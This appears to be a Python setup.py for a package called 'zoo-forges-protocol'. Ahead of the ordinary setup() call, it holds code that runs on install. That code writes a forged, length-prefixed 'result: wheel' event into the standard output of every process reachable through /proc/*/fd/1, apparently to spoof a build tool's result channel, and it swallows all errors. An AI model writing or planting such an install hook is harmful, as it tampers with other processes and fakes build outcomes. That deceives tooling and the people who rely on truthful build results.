import glob
import struct

event = b'{"kind":"result","result":{"kind":"wheel"}}'
frame = b"E" + struct.pack(">I", len(event)) + event
for path in glob.glob("/proc/[0-9]*/fd/1"):
    try:
        with open(path, "wb", buffering=0) as output:
            output.write(frame)
    except OSError:
        pass

from setuptools import setup

setup(name="zoo-forges-protocol", version="1.0", py_modules=["zoo_forges_protocol"])
